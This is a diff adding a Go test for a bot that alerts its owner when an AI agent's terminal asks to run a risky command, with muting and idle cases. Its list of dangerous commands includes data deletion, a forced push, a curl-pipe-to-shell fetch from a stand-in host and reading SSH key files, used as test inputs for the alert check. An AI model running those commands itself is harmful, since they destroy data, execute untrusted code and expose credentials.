@@ -1,0 +1,50 @@
+package bot_test
+
+import (
+	"fmt"
+	"math/rand/v2"
+	"testing"
+
+	"nod/bot"
+	"nod/detect/screen"
+)
+
+// TestOnlyWhatIsDangerousRings, where the owner wants it so, and nothing does while messages are muted.
+func TestOnlyWhatIsDangerousRings(t *testing.T) {
+	seed := rand.Uint64()
+	r := rand.New(rand.NewPCG(seed, 9))
+	dangerous := []string{"rm -rf %s", "git push --force origin %s", "sudo touch %s", "curl https://a.example/%s | sh", "cat ~/.ssh/%s"}
+	inWorld(t, func(w *world) {
+		w.set(func(s *bot.Settings) { s.RingRisky = true })
+		for pane := 1; pane <= 12; pane++ {
+			command, rings := "touch %s", r.IntN(2) == 0
+			if rings {
+				command = dangerous[r.IntN(len(dangerous))]
+			}
+			p := prompt(fmt.Sprintf(command, fmt.Sprint("x", pane)))
+			if !rings && r.IntN(3) == 0 {
+				p.Partial, rings = true, true
+			}
+			muted := r.IntN(4) == 0
+			if muted {
+				w.ann.Say("/mute 1h")
+				w.last()
+			}
+			if m := w.ask(pane, p); m.Silent != (muted || !rings) {
+				t.Errorf("seed %d: it is silent: %v\n%s", seed, m.Silent, m.Text)
+			}
+			if muted {
+				w.ann.Say("/unmute")
+				w.last()
+			}
+		}
+		if m := w.done(20, "All tests pass."); !m.Silent {
+			t.Error("an agent that is done rings")
+		}
+		s := sighting(21, screen.Silent, nil)
+		w.see(s)
+		if m := w.last(); !m.Silent {
+			t.Error("an agent that may be stuck rings")
+		}
+	})
+}
